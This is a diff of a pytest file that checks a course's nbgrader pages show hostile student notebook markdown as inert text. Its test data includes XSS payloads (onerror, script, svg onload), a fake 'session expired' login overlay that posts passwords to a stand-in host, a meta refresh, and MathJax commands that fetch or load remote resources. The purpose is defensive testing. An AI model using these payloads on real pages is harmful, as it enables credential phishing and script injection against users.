@@ -1,17 +1,22 @@
 """What a student hands in is shown as data (attnbook_classroom.course.sanitize): the rule on markdown,
-and the page nbgrader's formgrader makes of a hostile autograded notebook, rendered with nbgrader's own
-exporter configuration and template. (tests/browser/test_classroom_pages.py opens the real feedback
-page and the real formgrader in Chromium after a real grading run.)
+the page nbgrader's formgrader makes of a hostile autograded notebook, rendered with nbgrader's own
+exporter configuration and template, and the feedback page the course's pipeline makes of it after
+ShowAsData. (tests/browser/test_classroom_pages.py opens the real feedback page and the real
+formgrader in Chromium after a real grading run.)
 """
 
 from __future__ import annotations
 
+import copy
 import html.parser
+import importlib
 
 import nbformat
 import pytest
 
+from attnbook_classroom.course.folder import config, write_config
 from attnbook_classroom.course.notebooks import exercise_notebook, toc_chapters
+from attnbook_classroom.course.plugins import FeedbackExporter
 from attnbook_classroom.course.sanitize import AS_TEXT_NOTE, renders_safely, safe_markdown, sanitize_notebook
 
 RUN = "window.pwned = 1"
@@ -21,6 +26,9 @@ KEPT = [  # markdown nbconvert renders with nothing of the student's as HTML, an
     "```python\nif a < b and c > d:\n    pass\n```",
     "# A heading\n\n- a [link](https://example.org), a [mail](mailto:a@example.org), an [anchor](#top)",
     f"![a figure](data:image/png;base64,{PNG})",
+    "| a | b |\n|:--|--:|\n| 1 | 2 |\n\n- [x] done\n- [ ] to do\n\n3. three\n\nTerm\n: its meaning\n\n"
+    "> ~~old~~ and <https://example.org>",
+    "```text-we-have-no-lexer-for\nx < y\n```\n\n    indented code",
 ]
 SHOWN_AS_TEXT = [  # raw HTML, a script, an SVG, a link that runs code, a remote image, a data: page
     f'<img src=x onerror="{RUN}">', f"text <script>{RUN}</script> more", f'<svg onload="{RUN}"></svg>',
@@ -48,11 +56,16 @@ class _Page(html.parser.HTMLParser):
     def __init__(self):
         super().__init__()
         self.tags, self.handlers, self.addresses, self.scripts, self._in_script = [], [], [], [], False
+        self.ids = []
 
     def handle_starttag(self, tag, attrs):
         self.tags.append(tag)
         self._in_script = tag == "script"
+        if tag == "meta" and ("http-equiv", "refresh") in attrs:
+            self.addresses.append((tag, "content", dict(attrs).get("content")))
         for name, value in attrs:
+            if name == "id":
+                self.ids.append((tag, value))
             if name.startswith("on"):
                 self.handlers.append((tag, name, value))
             if name in ("href", "src", "action", "formaction", "xlink:href") and value:
@@ -136,7 +149,131 @@ def test_formgrader_shows_a_hostile_submission_as_data():
 
 
 def test_the_books_own_exercise_cells_are_shown_as_written():
-    """Every markdown cell of every chapter's exercise notebook renders as it is: only what a student
-    adds is ever shown as text."""
-    cells = [c for chapter in toc_chapters() for c in exercise_notebook(chapter).cells if c.cell_type == "markdown"]
-    assert cells and [c.source[:80] for c in cells if not renders_safely(c.source, c.get("attachments"))] == []
+    """Every markdown cell of every chapter's exercise notebook is kept as it is by sanitize_notebook
+    (its headings, maths and grade ids together): only what a student adds is ever shown as text."""
+    pairs = []  # (written, shown) for each markdown cell
+    for chapter in toc_chapters():
+        nb = exercise_notebook(chapter)
+        shown = sanitize_notebook(copy.deepcopy(nb))
+        pairs += [(cell.source, after.source) for cell, after in zip(nb.cells, shown.cells, strict=True)
+                  if cell.cell_type == "markdown"]
+    assert pairs and [written[:80] for written, shown in pairs if shown != written] == []
+
+
+# The attacks a hostile student found, each with the cell that carried it.
+OVERLAY = ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">'
+           '<h1>session expired</h1><form action="https://203.0.113.9/steal" method="post">'
+           '<input name=pw type=password placeholder="password"><button>Sign in again</button></form></div>')
+MERMAID = [  # nbconvert's renderer copies a mermaid block as it is, escaping or not: the two renders agree
+    f'```mermaid\n<img src=x onerror="{RUN}">\n```',
+    f"```mermaidx\n<img src=x onerror={RUN}>\n```",
+    f'```mermaid\n<meta http-equiv="refresh" content="3;url=https://203.0.113.9/seen">{OVERLAY}\n```',
+]
+LATER_STEPS = [  # markdown that is data, which a step after ShowAsData rewriting markdown made live
+    f"BEGIN HIDDEN TESTS\n```\nEND HIDDEN TESTS\n{OVERLAY}\n```",  # removing the marked lines opened the fence
+    f"`x\n$\\grave{{a}}$ {OVERLAY}`",  # a backtick in MathML written into the markdown closed the code span
+    f"<img src=x onerror=\"{RUN}\" title='$x'y$'>",  # MathML's quotes written into the markdown
+]
+MATHJAX = [  # maths formgrader's MathJax 2.7 (with its Safe extension) styles, links, names or extends
+    r"My answer: $\style{cursor:url(https://203.0.113.9/seen.png),auto}{x}$",
+    r"My answer: &#92;(\style{cursor:url(https://203.0.113.9/entity.png),auto}{x}&#92;) and "
+    r"&#36;\bbox[cursor:url(https://203.0.113.9/bbox.png),auto]{y}&#36;",
+    r"$\href{https://203.0.113.9/h}{click}$", r"$\class{navbar-fixed-top}{x}$", r"$\cssId{statusmessage}{x}$",
+    r"$\unicode[serif]{x41}$", r"$\require{https://203.0.113.9/x.js}$", r'$\mmlToken{mi}[href="https://a.b"]{x}$',
+    r"$\texttip{a}{tip}$", r"$\toggle{a}{b}\endtoggle$", r"\\(\def\s{\sty}\s x\\)",
+    r"\begin{equation}\newcommand{\x}{y}\x\end{equation}", r"$x$, and a url(https://203.0.113.9/c.png)",
+]
+
+
+def _assert_inert(page: str) -> _Page:
+    """A formgrader page with no handler, script, form, SVG, frame or address of the student's."""
+    found = _Page()
+    found.feed(page)
+    assert not any("pwned" in text for _, _, text in found.handlers), found.handlers
+    assert not any("pwned" in text for text in found.scripts), found.scripts
+    assert not {"form", "svg", "iframe"} & set(found.tags), found.tags
+    for tag, name, value in found.addresses:  # formgrader's own (its pages, scripts, MathJax), embedded images
+        assert value.startswith(("data:image/png;base64,", "#", "/formgrader/",
+                                 "https://cdnjs.cloudflare.com/ajax/libs/mathjax/")), (tag, name, value)
+    return found
+
+
+@pytest.mark.parametrize("source", MERMAID + MATHJAX)
+def test_a_mermaid_block_and_styled_maths_are_shown_as_written(source):
+    """A mermaid block (its script ran in formgrader, its overlay sat on the feedback page) and maths
+    that MathJax would style, link or extend (a cursor from elsewhere was fetched as the page loaded)
+    are shown as the text the student wrote; formgrader's page of it holds no tag of theirs."""
+    shown = safe_markdown(source)
+    assert shown.startswith(AS_TEXT_NOTE) and source in shown and renders_safely(shown), shown
+    _assert_inert(formgrader_page(sanitize_notebook(nbformat.v4.new_notebook(
+        cells=[nbformat.v4.new_markdown_cell(source)]))))
+
+
+@pytest.mark.parametrize("heading", ["causal-square", "causal-square-comment", "causal-square_extra_credit",
+                                     "written", "statusmessage", "notebook-container"])
+def test_a_heading_never_takes_an_id_formgrader_looks_up(heading):
+    """A heading's id that is a grade cell's (or its comment's or extra credit's) would take that
+    cell's score box in formgrader, whose script looks the box up by id (the score given to the
+    written answer was written into the test cell's grade): shown as written, the id is formgrader's
+    alone. Another heading stays a heading."""
+    source = f"# {heading}\n\nMy written answer."
+    written = nbformat.v4.new_markdown_cell(source)
+    written.metadata["nbgrader"] = {"grade": True, "grade_id": "written", "locked": False, "points": 1,
+                                    "schema_version": 3, "solution": True, "task": False}
+    test = nbformat.v4.new_code_cell("assert True")
+    test.metadata["nbgrader"] = {"grade": True, "grade_id": "causal-square", "locked": True, "points": 1,
+                                 "schema_version": 3, "solution": False, "task": False}
+    nb = nbformat.v4.new_notebook(cells=[written, test, nbformat.v4.new_markdown_cell("# My answer")])
+    nb = sanitize_notebook(nb)
+    assert nb.cells[0].source.startswith(AS_TEXT_NOTE) and source in nb.cells[0].source
+    assert nb.cells[2].source == "# My answer"
+    ids = _assert_inert(formgrader_page(nb)).ids
+    assert [value for tag, value in ids if tag in ("h1", "h2", "h3", "h4", "h5", "h6")] == ["My-answer"], ids
+    assert ("input", "causal-square") in ids and ("textarea", "written-comment") in ids, ids
+
+
+def _feedback_steps(tmp_path) -> list:
+    """The course's feedback preprocessors after ShowAsData (its nbgrader_config.py), but nbgrader's
+    GetGrades, which reads the gradebook and writes scores and comments into cell metadata only."""
+    write_config(tmp_path, tmp_path / "exchange")
+    names = list(config(tmp_path).GenerateFeedback.preprocessors)
+    after = names[names.index("attnbook_classroom.course.plugins.ShowAsData") + 1:]
+    assert "nbgrader.preprocessors.GetGrades" in after
+    return [getattr(importlib.import_module(module), name)() for module, _, name in
+            (step.rpartition(".") for step in after if step != "nbgrader.preprocessors.GetGrades")]
+
+
+def test_nothing_after_show_as_data_rewrites_a_markdown_cell(tmp_path):
+    """ShowAsData judged each markdown cell by the page its text makes: the feedback pipeline after it
+    leaves every markdown cell's text as ShowAsData made it, and still removes the hidden tests from
+    the test cells."""
+    sources = KEPT + SHOWN_AS_TEXT + MERMAID + LATER_STEPS + MATHJAX
+    test = nbformat.v4.new_code_cell("check(1)\n### BEGIN HIDDEN TESTS\ncheck(2)\n### END HIDDEN TESTS")
+    test.metadata["nbgrader"] = {"grade": True, "grade_id": "t", "locked": True, "points": 1,
+                                 "schema_version": 3, "solution": False, "task": False}
+    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(s) for s in sources] + [test])
+    nb = sanitize_notebook(nb)
+    shown = [c.source for c in nb.cells if c.cell_type == "markdown"]
+    resources = {"config_dir": str(tmp_path)}  # where CSSHTMLHeaderPreprocessor looks for custom CSS
+    for step in _feedback_steps(tmp_path):
+        nb, resources = step.preprocess(nb, resources)
+    assert [c.source for c in nb.cells if c.cell_type == "markdown"] == shown
+    assert nb.cells[-1].source.strip() == "check(1)"
+
+
+@pytest.mark.parametrize("source", LATER_STEPS + MERMAID)
+def test_the_feedback_page_shows_the_student_markdown_as_data(tmp_path, source):
+    """The feedback page the course's pipeline and exporter make: no tag of the student's (the
+    overlay, its form, a refresh, an image with a handler), the student's text there to read, and
+    maths as MathML written by the renderer."""
+    nb = sanitize_notebook(nbformat.v4.new_notebook(cells=[nbformat.v4.new_markdown_cell(source),
+                                                          nbformat.v4.new_markdown_cell(r"$\frac{a}{b} < c$")]))
+    resources = {"config_dir": str(tmp_path)}
+    for step in _feedback_steps(tmp_path):
+        nb, resources = step.preprocess(nb, resources)
+    page, _ = FeedbackExporter().from_notebook_node(nb, resources)
+    body = page[page.index("<body"):]
+    for tag in ("<form", "<div style", "<img", "<meta", "<input", "<h1>"):
+        assert tag not in body, (tag, body[:3000])
+    assert "session expired" in body or "onerror" in body
+    assert "<math" in body and "\\frac" not in body  # the maths of the second cell is MathML
